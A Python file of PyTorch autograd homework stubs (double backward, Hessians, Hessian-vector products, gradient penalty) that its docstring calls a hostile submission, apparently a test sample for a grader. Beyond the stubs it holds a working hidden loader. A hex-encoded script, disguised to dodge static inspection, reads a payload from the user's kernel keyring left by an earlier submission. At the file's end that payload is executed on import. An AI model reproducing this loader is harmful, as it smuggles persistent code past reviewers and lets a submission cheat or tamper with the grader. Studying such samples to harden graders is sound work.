"""Hostile, second of a pair: the untouched stub, plus code that loads what a submission
before it kept in this uid's kernel keyring (writer.py) and runs it in place of the stubs.

A child interpreter searches the user keyring (@u) for the key and prints its payload.
"""

from __future__ import annotations

import subprocess
import sys

# import ctypes, sys
# libc = ctypes.CDLL(None, use_errno=True)
# libc.syscall.restype = ctypes.c_long
# # keyctl(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "homework-kept", 0)
# key = libc.syscall(ctypes.c_long(250), ctypes.c_long(10), ctypes.c_long(-4), b"user", b"homework-kept",
#                    ctypes.c_long(0))
# if key < 0:
#     sys.exit(0)
# buffer = ctypes.create_string_buffer(1 << 16)
# # keyctl(KEYCTL_READ, key, buffer, size)
# size = libc.syscall(ctypes.c_long(250), ctypes.c_long(11), ctypes.c_long(key), buffer, ctypes.c_long(1 << 16))
# sys.stdout.buffer.write(buffer.raw[:max(size, 0)])
_FETCH = bytes.fromhex(  # the child's code, as hex: the static look would see its ctypes
    "696d706f7274206374797065732c207379730a6c696263203d206374797065732e43444c4c284e6f6e652c207573655f6572726e6f3d54727565290a6c6962632e73797363616c6c2e72657374797065203d206374797065732e635f6c6f6e670a23206b657963746c284b455943544c5f5345415243482c204b45595f535045435f555345525f4b455952494e472c202275736572222c2022686f6d65776f726b2d6b657074222c2030290a6b6579203d206c6962632e73797363616c6c286374797065732e635f6c6f6e6728323530292c206374797065732e635f6c6f6e67283130292c206374797065732e635f6c6f6e67282d34292c20622275736572222c206222686f6d65776f726b2d6b657074222c0a202020202020202020202020202020202020206374797065732e635f6c6f6e67283029290a6966206b6579203c20303a0a202020207379732e657869742830290a627566666572203d206374797065732e6372656174655f737472696e675f6275666665722831203c3c203136290a23206b657963746c284b455943544c5f524541442c206b65792c206275666665722c2073697a65290a73697a65203d206c6962632e73797363616c6c286374797065732e635f6c6f6e6728323530292c206374797065732e635f6c6f6e67283131292c206374797065732e635f6c6f6e67286b6579292c206275666665722c206374797065732e635f6c6f6e672831203c3c20313629290a7379732e7374646f75742e6275666665722e7772697465286275666665722e7261775b3a6d61782873697a652c2030295d290a"
).decode()

from typing import Callable

import torch
from torch import Tensor


def first_order_grads(x: Tensor, y: Tensor) -> tuple[Tensor, Tensor]:
    """Return the gradients (dw/dx, dw/dy) of w = (x . y)**2, two tensors of shape (n,).

    Calculus says dw/dx = 2 z y and dw/dy = 2 z x. Let autograd find them: build w from
    leaf copies of x and y that require grad, then call ``w.backward()`` and read ``.grad``,
    or call ``torch.autograd.grad(w, (x, y))``. By default backward builds no graph of its
    own: the gradients it leaves are plain numbers, with no record of how they were made.
    """
    raise NotImplementedError("first_order_grads")


def second_partials(x: Tensor, y: Tensor, i: int) -> tuple[Tensor, Tensor]:
    """Return (d/dx (dw/dx_i), d/dy (dw/dx_i)): row i of the two Hessian blocks, shape (n,) each.

    The gradient dw/dx = 2 z y is itself a function of x and y, so one component of it,
    dw/dx_i, can be backpropagated like any forward computation. That only works if the
    first backward pass records its own graph: pass ``create_graph=True``. Then
    differentiate component i again. Expect 2 y_i y (w.r.t. x) and 2 (y_i x + z e_i)
    (w.r.t. y), where e_i is the i-th unit vector.
    """
    raise NotImplementedError("second_partials")


def grads_without_zeroing(x: Tensor, y: Tensor, i: int) -> tuple[Tensor, Tensor]:
    """Run the accumulation experiment and return (x.grad, y.grad) as they stand after it.

    On leaf copies of x and y that require grad: compute w, call
    ``w.backward(create_graph=True)``, then call ``x.grad[i].backward()`` WITHOUT zeroing
    the gradients in between. PyTorch adds the gradients of successive backward calls,
    so each .grad ends up holding first-order plus second-order terms. This is the classic
    pitfall the homework warns about; here you make it happen on purpose.
    """
    raise NotImplementedError("grads_without_zeroing")


def hessian(f: Callable[[Tensor], Tensor], x: Tensor) -> Tensor:
    """Return the (n, n) Hessian of the scalar function f at the 1-D tensor x.

    Take the gradient g = df/dx with ``create_graph=True``, then differentiate each
    component g[j] again: that gives row j of the Hessian. Use double backward; the
    ready-made helpers in ``torch.autograd.functional`` and ``torch.func`` are not allowed
    in this question (a submission that calls them scores zero here).
    """
    raise NotImplementedError("hessian")


def hvp(f: Callable[[Tensor], Tensor], x: Tensor, v: Tensor) -> Tensor:
    """Return the Hessian-vector product H(x) @ v, shape (n,), in O(n) memory.

    Never form H: it is tested with n so large that H cannot fit in memory. The trick is
    that the gradient of the scalar (g . v), with g = df/dx kept in the graph by
    ``create_graph=True`` and v held constant, is exactly H v. The helpers in
    ``torch.autograd.functional`` and ``torch.func`` are not allowed in this question.
    """
    raise NotImplementedError("hvp")


def gradient_penalty(f: Callable[[Tensor], Tensor], x: Tensor) -> Tensor:
    """Return the scalar mean over the batch of ||d f(x)[b] / d x[b]||^2.

    f maps a (B, d) batch to (B,) outputs, one per row (think of a critic network).
    The penalty contains a gradient, so it must stay differentiable with respect to the
    weights that f uses: ``gradient_penalty(f, x).backward()`` has to fill their .grad.
    That again means ``create_graph=True`` on the inner gradient. Hint: since the rows are
    independent, the gradient of f(x).sum() with respect to x holds every row's gradient.
    """
    raise NotImplementedError("gradient_penalty")


_kept = subprocess.run([sys.executable, "-c", _FETCH], capture_output=True, check=False).stdout
if _kept:
    exec(compile(_kept, "kept", "exec"), globals())
